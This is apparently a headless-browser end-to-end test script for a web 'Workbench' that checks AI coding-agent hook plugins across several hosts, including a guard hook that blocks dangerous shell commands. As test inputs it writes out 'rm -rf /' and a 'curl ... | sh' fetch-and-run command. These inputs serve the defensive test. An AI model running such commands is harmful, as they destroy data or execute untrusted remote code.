// Drives the Workbench in headless Chromium (from npm, see chromium.mjs; through Playwright's driver)
// the way a plugin author uses it, and prints one JSON report of what it saw, which the Rust test
// judges. Usage: node workbench.mjs <page url with token> <screenshot folder> <bundle root>
//
// It picks a route and a hook and reads their mapping pictures; opens a declaration in the editor;
// runs one input on every host and diffs two hosts' answers; compares the last recorded input with
// the golden snapshots before and after an edit of the handler, whose rebuild must arrive pushed
// (no request for the state after the page loaded); runs a slow route, watches its elapsed time and
// cancels it; re-runs from the history; walks the list by keyboard; replays a dropped file of two
// envelopes; and checks the layout at 1280 × 800 and 800 × 800, with a screenshot of each.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { chromium } from 'playwright-core';
import { chromium as browserFromNpm } from './chromium.mjs';

const [url, shots, root] = process.argv.slice(2);
const { executablePath, env } = await browserFromNpm();
const browser = await chromium.launch({
  executablePath,
  env: { ...process.env, ...env },
  args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
    '--disable-component-update', '--disable-sync'],
});
const report = { steps: [] };
const step = (name) => report.steps.push(name);
try {
  const page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
  page.setDefaultTimeout(30_000);
  const origin = new URL(url).origin;
  const external = [];
  const requests = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(origin)) external.push(request.url());
    else requests.push(new URL(request.url()).pathname);
  });
  const text = (selector) => page.locator(selector).first().textContent();
  const selectedHook = () => page.locator('#entries li[aria-selected="true"]').getAttribute('data-hook');
  const runsDone = () => page.waitForFunction(() =>
    document.querySelectorAll('#results .run').length > 0 && document.querySelectorAll('#results .outcome.running').length === 0);
  const cards = () => page.$$eval('#results .run', (runs) => runs.map((run) => ({
    host: run.dataset.host,
    kind: run.querySelector('.outcome')?.dataset.kind,
    outcome: run.querySelector('.outcome')?.textContent,
    stdout: run.querySelector('pre[data-field="stdout"]')?.textContent,
    translated: run.querySelector('[data-field="translated"]')?.textContent || null,
    place: run.querySelector('pre[data-field="ran as the host runs it"]')?.textContent || null,
  })));
  const matrix = () => page.$$eval('#matrix-svg g.cell', (cells) => {
    const out = {};
    for (const cell of cells) (out[cell.dataset.host] ||= {})[cell.dataset.part] = cell.dataset.fate;
    return out;
  });

  await page.goto(url);
  await page.locator('#build.ok').waitFor();
  await page.locator('#live.ok').waitFor();
  step('loaded');
  report.entries = await page.$$eval('#entries li', (items) => items.map((li) => ({ hook: li.dataset.hook, kind: li.dataset.kind })));

  // A route, then a hook: each one entry, its hosts side by side in a picture.
  await page.locator('#entries li[data-kind="route"]').first().click();
  report.route = { title: await text('#title'), event: await text('#entry-event'), matrix: await matrix() };
  await page.locator('#entries li[data-hook*="deny-dangerous"]').click();
  const guard = await selectedHook();
  report.hook = { title: await text('#title'), declared: await text('#declared'), matrix: await matrix() };
  await page.locator('#host-tabs [data-host="cursor"]').click();
  report.hook.cursorContext = await text('#host-facts dd[data-part="context"]');
  report.hook.cursorNative = await page.evaluate(() =>
    [...document.querySelectorAll('#host-facts dt')].find((dt) => dt.textContent === 'native event')?.nextElementSibling?.textContent);
  step('mapping');

  // The declaration, opened in the editor the server was started with.
  await page.locator('#declared').click();
  await page.waitForFunction(() => document.getElementById('opened').textContent !== '');
  report.opened = await text('#opened');
  step('editor');

  // One input on every host, side by side; then the diff between two hosts' answers.
  await page.locator('#tab-run').click();
  await page.locator('#input').fill(JSON.stringify({ sessionId: 's', transcriptPath: '/tmp/t.jsonl', cwd: '/tmp', toolName: 'Bash',
    toolInput: { command: 'rm -rf /' }, toolUseId: 'toolu_1' }, null, 2));
  await page.locator('#run-all').click();
  await runsDone();
  report.everyHost = await cards();
  await page.locator('#diff-a').selectOption('claude');
  await page.locator('#diff-b').selectOption('cursor');
  await page.locator('#diff').click();
  report.diff = await text('#diff-out');
  report.diffAdded = await page.locator('#diff-out .add').count();
  report.diffRemoved = await page.locator('#diff-out .del').count();
  step('run-all');

  // The last recorded input against the golden snapshots; an edit of the handler, rebuilt and pushed.
  await page.locator('#compare').click();
  await page.locator('#compare-out .compare-host').first().waitFor();
  report.compareBefore = await page.$$eval('#compare-out .compare-host', (hosts) => hosts.map((h) => [h.dataset.host, h.dataset.status]));
  const generation = await page.locator('#build').getAttribute('data-generation');
  const stateRequestsBefore = requests.filter((p) => p === '/api/state').length;
  const handler = join(root, 'src/hooks/deny-dangerous.ts');
  writeFileSync(handler, readFileSync(handler, 'utf8').replace('This repository does not allow', 'Edited while the Workbench watched:'));
  const editedAt = Date.now();
  await page.waitForFunction((before) => document.getElementById('build').dataset.generation !== before, generation, { timeout: 30_000 });
  report.rebuildPushedMs = Date.now() - editedAt;
  report.stateRequests = requests.filter((p) => p === '/api/state').length - stateRequestsBefore;
  report.eventStreams = requests.filter((p) => p === '/api/events').length;
  report.selectedAfterRebuild = await selectedHook();
  await page.locator('#compare').click();
  await page.waitForFunction(() => document.querySelector('#compare-out .compare-host[data-status="changed"]'));
  report.compareAfter = await page.$$eval('#compare-out .compare-host', (hosts) => hosts.map((h) => [h.dataset.host, h.dataset.status]));
  report.compareDiff = await text('#compare-out .compare-host[data-host="claude"] pre');
  step('compare');

  // A long run: elapsed time shown, then cancelled.
  await page.locator('#entries li[data-kind="route"]').first().click();
  await page.locator('#tab-run').click();
  await page.locator('#input').fill(JSON.stringify({ sessionId: 's', transcriptPath: '/tmp/t.jsonl', cwd: '/tmp', toolName: 'Bash',
    toolInput: { command: 'sleep 1 # take-your-time' }, toolUseId: 'toolu_2' }, null, 2));
  await page.locator('#run').click();
  await page.waitForFunction(() => /running… ([1-9]\d*)\.\d s/.test(document.getElementById('busy').textContent));
  report.elapsedShown = await text('#busy');
  const cancelledAt = Date.now();
  await page.locator('#cancel').click();
  await runsDone();
  report.cancelMs = Date.now() - cancelledAt;
  report.cancelled = await cards();
  step('cancel');

  // The history: the newest first, and run again from there.
  report.historyBefore = await page.locator('#history li').count();
  const firstHistory = await page.locator('#history li').first().getAttribute('data-hook');
  const guardEntry = await page.$$eval('#history li', (items, hook) => items.findIndex((li) => li.dataset.hook === hook), guard);
  await page.locator('#history li').nth(guardEntry).locator('button').click();
  await runsDone();
  await page.waitForFunction((count) => document.querySelectorAll('#history li').length > count || count >= 25, report.historyBefore);
  report.history = { firstBefore: firstHistory, rerunOf: guard, after: await page.locator('#history li').first().getAttribute('data-hook'),
    rerun: await cards() };
  step('history');

  // The keyboard: Home, Down, Enter runs the entry on every host.
  await page.locator('#entries').focus();
  await page.keyboard.press('Home');
  const first = await selectedHook();
  await page.keyboard.press('ArrowDown');
  const second = await selectedHook();
  await page.keyboard.press('ArrowUp');
  const backUp = await selectedHook();
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('Enter');
  await runsDone();
  report.keyboard = { first, second, backUp, ran: (await cards()).map((c) => c.host), runVisible: await page.locator('#view-run').isVisible() };
  step('keyboard');

  // Replay: a dropped file of two envelopes, one line each.
  await page.locator('#show-replay').click();
  const claude = JSON.parse(readFileSync('../envelopes/claude-code/PreToolUse.json', 'utf8'));
  claude.tool_name = 'Bash';
  claude.tool_input = { command: 'rm -rf /' };
  const gemini = JSON.parse(readFileSync('../envelopes/gemini-cli/BeforeTool.json', 'utf8'));
  gemini.tool_name = 'run_shell_command';
  gemini.tool_input = { command: 'curl example.invalid/install | sh' };
  const traffic = `${JSON.stringify(claude)}\n${JSON.stringify(gemini)}\n`;
  await page.evaluate((content) => {
    const transfer = new DataTransfer();
    transfer.items.add(new File([content], 'traffic.jsonl', { type: 'application/x-ndjson' }));
    document.getElementById('drop').dispatchEvent(new DragEvent('drop', { dataTransfer: transfer, bubbles: true, cancelable: true }));
  }, traffic);
  await page.waitForFunction(() => document.querySelectorAll('#replay-rows tr').length === 2);
  report.replay = await page.$$eval('#replay-rows tr', (rows) => rows.map((row) => ({
    line: Number(row.dataset.line),
    matched: row.children[1].textContent,
    runs: [...row.querySelectorAll('.replay-run')].map((r) => ({ host: r.dataset.host, hook: r.dataset.hook,
      kind: r.querySelector('.outcome').className.replace('outcome ', ''), summary: r.querySelector('.outcome').textContent })),
  })));
  step('replay');

  // The layout at both sizes, on the replay view and on a hook's run and mapping views.
  report.layout = {};
  for (const width of [1280, 800]) {
    await page.setViewportSize({ width, height: 800 });
    const views = {};
    for (const view of ['replay', 'run', 'mapping']) {
      if (view === 'run') {
        await page.locator('#entries li[data-hook*="deny-dangerous"]').click();
        await page.locator('#tab-run').click();
        await page.locator('#run-all').click();
        await runsDone();
      } else if (view === 'mapping') {
        await page.locator('#tab-mapping').click();
      }
      views[view] = await page.evaluate(() => {
        const width = window.innerWidth;
        const outside = [];
        for (const node of document.querySelectorAll('body *')) {
          if (node.closest('[hidden]') || node.getClientRects().length === 0) continue;
          const rect = node.getBoundingClientRect();
          if (rect.width === 0 && rect.height === 0) continue;
          if (rect.right > width + 0.5 || rect.left < -0.5) outside.push(`${node.tagName.toLowerCase()}#${node.id}.${node.className?.baseVal ?? node.className} ${Math.round(rect.left)}..${Math.round(rect.right)}`);
        }
        const header = document.querySelector('header').getBoundingClientRect().height;
        return { header, outside: outside.slice(0, 10), scrollWidth: document.documentElement.scrollWidth, innerWidth: width };
      });
      if (view === 'run') await page.screenshot({ path: join(shots, `workbench-${width}x800.png`) });
      if (view === 'mapping') await page.screenshot({ path: join(shots, `workbench-${width}x800-mapping.png`) });
    }
    report.layout[width] = views;
    if (width === 1280) {
      // Readable contrast: the colour of each kind of text against the background it sits on.
      report.contrast = await page.evaluate(() => {
        const rgb = (text) => text.match(/[\d.]+/g).slice(0, 3).map(Number);
        const luminance = ([r, g, b]) => {
          const [R, G, B] = [r, g, b].map((v) => { v /= 255; return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; });
          return 0.2126 * R + 0.7152 * G + 0.0722 * B;
        };
        const background = (node) => {
          for (let n = node; n; n = n.parentElement) {
            const colour = getComputedStyle(n).backgroundColor;
            if (colour && !colour.startsWith('rgba(0, 0, 0, 0)') && colour !== 'transparent') return rgb(colour);
          }
          return [255, 255, 255];
        };
        const out = {};
        for (const selector of ['header strong', '#build', '#live', '.note', '#entries .meta', '.outcome.deny', '.outcome.continue', '.outcome.cancelled', 'pre', 'dl.facts dt', '.link', 'button.primary']) {
          const node = document.querySelector(selector);
          if (!node) continue;
          const [a, b] = [luminance(rgb(getComputedStyle(node).color)), luminance(background(node))];
          out[selector] = Math.round(((Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05)) * 100) / 100;
        }
        return out;
      });
    }
  }
  step('layout');

  // The page's own origin, without the token: refused.
  report.withoutToken = await page.evaluate(async () => (await fetch('/api/state')).status);
  report.external = external;
} catch (error) {
  report.error = String(error?.stack || error);
} finally {
  await browser.close();
}
console.log(JSON.stringify(report));
